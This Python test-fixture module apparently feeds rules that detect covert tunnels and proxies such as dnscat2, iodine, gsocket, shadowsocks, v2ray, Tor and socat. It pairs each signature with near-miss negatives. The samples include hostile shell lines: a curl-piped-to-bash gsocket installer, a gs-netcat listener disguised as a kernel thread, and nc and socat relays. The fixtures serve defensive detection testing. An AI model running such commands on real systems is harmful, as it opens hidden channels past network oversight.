"""Contents that call out in disguise, or through what others offer, each beside its near miss."""

from __future__ import annotations

from typing import Final

from tests.rules_remote.contents import Cases, elf, sh, text

HIDDEN: Final[Cases] = (
    (
        "tunnel_dns_dns2tcp",
        (
            elf("dns2tcp v%s ( http://www.hsc.fr/ )", "Usage : %s [options] [server]"),
            elf("Creating session id: 0x%x address = %u.%u.%u.%u (compression %s wanted)"),
        ),
        (elf("dns2tcpc"), text("dns2tcp v%s")),
    ),
    (
        "tunnel_dns_other",
        (
            elf("dnscat2 v0.07", "TUNNEL_CONNECT", "--dns domain=<domain>"),
            elf("www.bamsoftware.com/git/dnstt.git/turbotunnel"),
            sh("dnscat --secret=x relay.invalid.example.com"),
        ),
        (elf("dnscat2"), sh("dig TXT a.example.com"), text("www.bamsoftware.com/git/dnstt.git")),
    ),
    (
        "tunnel_icmp",
        (
            elf("ptunnel-ng v %s.", "Discarding incoming connection - too many tunnels!"),
            elf("Hans - IP over ICMP version 1.1"),
            sh("ptunnel -p 192.0.2.5 -lp 8000 -da localhost -dp 22"),
        ),
        (elf("ICMP echo request"), elf("icmptunnel"), text("ptunnel v %s")),
    ),
    (
        "tunnel_http",
        (
            elf("Set up a httptunnel connection to PORT at HOST (default port is %d)."),
            text("<?php // Georg says, 'All seems fine'"),
            text("String cmd = request.getHeader('X-CMD'); getHeader('X-TARGET');"),
        ),
        (elf("--max-connection-age"), text("Set up a httptunnel connection"), text("X-CMD: 1")),
    ),
    (
        "tunnel_udp",
        (
            elf("Usage: %s -s TCP-port [-r] [-v] UDP-addr/UDP-port[/ttl]"),
            elf("udp2raw-tunnel", "--raw-mode <string> faketcp(default), udp, icmp"),
            elf("github.com/xtaci/kcptun/generic.NewCompStream"),
        ),
        (elf("udp2raw-tunnel"), text("github.com/xtaci/kcptun/"), elf("raw-mode")),
    ),
    (
        "tunnel_http_connect",
        (
            elf("proxytunnel", " -r, --remproxy=STRING  Remote proxy host:port combination"),
            elf("corkscrew 2.0", "usage: <proxyhost> <proxyport> <desthost> <destport>"),
            text("Host h", "  ProxyCommand /usr/bin/corkscrew proxy 8080 %h %p"),
        ),
        (
            elf("--proxyauth"),
            text("ProxyCommand ssh -W %h:%p jump"),
            text("a corkscrew and a bottle"),
        ),
    ),
    (
        "tunnel_gsocket_launch",
        (
            sh("GS_ARGS='-s abcdefgh -liqD' exec -a '[kworker]' /usr/bin/gs"),
            sh("gs-netcat -s MySecretWord -l -i &"),
            sh('bash -c "$(curl -fsSL https://gsocket.io/y)"'),
        ),
        (sh("gs -sDEVICE=pdfwrite -o out.pdf in.ps"), sh("gs-netcat --help")),
    ),
    (
        "tunnel_gsocket_program",
        (
            elf("GSOCKET_HOST", "GSOCKET_PORT"),
            elf("Enter Secret (or press Enter to generate): ", "gs-netcat", "Encrypted (e2e)"),
        ),
        (elf("GSOCKET_HOST"), elf("gs-netcat"), text("GSOCKET_HOST GSOCKET_PORT")),
    ),
    (
        "tunnel_iodine_launch",
        (
            sh("iodine -f -P secret t.relay.invalid &"),
            sh("/usr/sbin/iodined -c -P secret 10.9.0.1 t.relay.invalid"),
        ),
        (sh("iodine --version"), text("potassium iodine -rich foods of the x.y coast")),
    ),
)

PROXY: Final[Cases] = (
    (
        "tunnel_ssh_dynamic",
        (sh("ssh -fN -D 1080 u@relay.invalid"), sh("autossh -M 0 -ND 0.0.0.0:9999 relay")),
        (sh("ssh -N u@relay.invalid"), elf("ssh -D 1080"), sh("sshd -D")),
    ),
    (
        "tunnel_socks_server",
        (
            elf("MicroSocks SOCKS5 Server", "usage: microsocks -1 -i listenip -p port"),
            elf("/etc/danted.conf", "socksmethod", "clientmethod"),
            elf("github.com/armon/go-socks5.(*Server).ServeConn"),
        ),
        (elf("socksmethod"), elf("SOCKS5 connect failed"), text("MicroSocks SOCKS5 Server")),
    ),
    (
        "tunnel_socks_library",
        (elf("socks5 server listening on %s"), elf("Starting SOCKS5 proxy on %s:%d")),
        (elf("SOCKS5 server refused the connection"), text("socks5 server listening")),
    ),
    (
        "tunnel_redsocks",
        (
            elf("redsocks", "redudp", "on_proxy_fail", "disclose_src"),
            text("redsocks {", " local_ip = 127.0.0.1;", " ip = relay.invalid;", " type = socks5;")
            + text("}"),
        ),
        (elf("redsocks"), text("redsocks {", "}"), text("type = socks5;", "ip = a.invalid;")),
    ),
    (
        "tunnel_shadowsocks",
        (
            elf("shadowsocks-libev 3.3", "The default cipher is chacha20-ietf-poly1305."),
            elf("github.com/shadowsocks/go-shadowsocks2/core.PickCipher"),
        ),
        (elf("shadowsocks"), elf("ss-subkey"), text("github.com/shadowsocks/go-shadowsocks2/")),
    ),
    (
        "tunnel_shadowsocks_profile",
        (
            text('{"server": "relay.invalid", "server_port": 8388,')
            + text(' "password": "xxxxxxx", "method": "aes-256-gcm"}'),
        ),
        (
            text('{"server": "db.invalid", "server_port": 5432, "password": "xxxxxxx"}'),
            text('{"method": "aes-256-gcm", "password": "xxxxxxx"}'),
        ),
    ),
    (
        "tunnel_v2ray",
        (
            elf("v2ray.com/core/proxy/vmess/outbound.(*Handler).Process"),
            elf("github.com/xtls/xray-core/core.New"),
        ),
        (elf("v2ray"), text("github.com/xtls/xray-core/core.New")),
    ),
    (
        "tunnel_v2ray_profile",
        (
            text('{"inbounds": [], "outbounds": [{"protocol": "vmess", "settings": {}}]}'),
            text("SUB=vless://" + "0" * 36 + "@relay.invalid:443?type=tcp"),
        ),
        (text('{"outbounds": [{"protocol": "freedom"}]}'), text('{"protocol": "vmess"}')),
    ),
    (
        "tunnel_trojan",
        (
            elf("Welcome to trojan 1.16.0"),
            text('{"run_type": "client", "remote_addr": "relay.invalid", "password": ["x"]}'),
        ),
        (elf("trojan"), text('{"run_type": "client", "remote_addr": "relay.invalid"}')),
    ),
    (
        "tunnel_tor",
        (elf("HiddenServiceDir", "HiddenServicePort", "cached-microdesc-consensus", "EntryNodes"),),
        (elf("HiddenServiceDir"), text("HiddenServiceDir HiddenServicePort EntryNodes")),
    ),
    (
        "tunnel_tor_onion_service",
        (text("HiddenServiceDir /var/lib/tor/s", "HiddenServicePort 22 127.0.0.1:22"),),
        (
            text("SocksPort 9050", "#HiddenServiceDir /v", "#HiddenServicePort 80 x"),
            text("HiddenServiceDir /var/lib/tor/s"),
        ),
    ),
    (
        "tunnel_tor_transport",
        (
            elf("gitlab.com/yawning/obfs4.git/transports/obfs4.(*obfs4Conn)"),
            text("UseBridges 1", "Bridge obfs4 192.0.2.3:443 FINGERPRINT cert=x iat-mode=0"),
            text("ClientTransportPlugin obfs4 exec /usr/bin/obfs4proxy"),
        ),
        (text("# Bridge obfs4"), text("gitlab.com/yawning/obfs4.git/transports"), elf("obfs4")),
    ),
    (
        "tunnel_torify",
        (
            elf("TORSOCKS_CONF_FILE", "TORSOCKS_LOG_LEVEL"),
            sh("torsocks curl http://x.invalid/u"),
            sh("curl --socks5-hostname 127.0.0.1:9050 http://x.invalid"),
        ),
        (elf("TORSOCKS_CONF_FILE"), sh("which torsocks"), sh("curl --socks5-hostname proxy:1080")),
    ),
    (
        "tunnel_stunnel",
        (
            elf("PSKsecrets", "TIMEOUTclose", "%-22s = [host:]port accept connections on specified")
            + b" host:port",
        ),
        (elf("PSKsecrets"), text("PSKsecrets TIMEOUTclose")),
    ),
    (
        "tunnel_stunnel_profile",
        (
            text(
                "[fleet]", "client = yes", "accept = 127.0.0.1:2222", "connect = relay.invalid:443"
            ),
        ),
        (
            text("[https]", "accept = 443", "connect = 80", "client = no"),
            text("client = yes", "connect = relay.invalid:443"),
        ),
    ),
    (
        "tunnel_port_forwarder",
        (
            elf("rinetd: cannot resolve host", "/etc/rinetd.conf"),
            elf("rcsocks", "rssocks", "ssocksd , rcsocks , rssocks ,"),
        ),
        (elf("rinetd"), text("rinetd /etc/rinetd.conf"), elf("lcx")),
    ),
    (
        "tunnel_sslh",
        (elf("/etc/sslh.cfg", "--on-timeout: connect to specified address upon timeout"),),
        (elf("on-timeout"), text("/etc/sslh.cfg on-timeout")),
    ),
    (
        "tunnel_socat_relay",
        (
            sh("socat TCP-LISTEN:2222,fork,reuseaddr TCP:10.0.0.5:22 &"),
            sh("socat OPENSSL:relay.invalid:443,verify=0 FILE:/dev/ttyS1,b115200,raw &"),
            sh("nc -l -p 80 < /tmp/f | nc 10.0.0.5 22 > /tmp/f"),
        ),
        (
            sh("socat - UNIX-CONNECT:/run/x.sock"),
            elf("socat TCP-LISTEN:1 TCP:a.b:2"),
            sh("nc -z host 22"),
        ),
    ),
)
